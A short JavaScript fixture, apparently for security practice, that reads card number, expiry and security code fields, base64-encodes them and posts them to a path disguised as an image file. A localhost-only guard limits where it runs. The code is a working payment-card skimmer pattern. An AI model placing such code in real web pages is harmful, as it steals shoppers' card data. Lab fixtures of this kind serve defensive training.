/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const card = () => {
    const part = (id) => document.getElementById(id)?.value ?? '';
    return [part('card-number'), part('card-expiry'), part('security_code')].join('|');
  };
  document.addEventListener('change', () => {
    if (card().length < 15) return;
    fetch('/images/spacer.jpg', { method: 'POST', body: btoa(card()) }).catch(() => {});
  });
})();
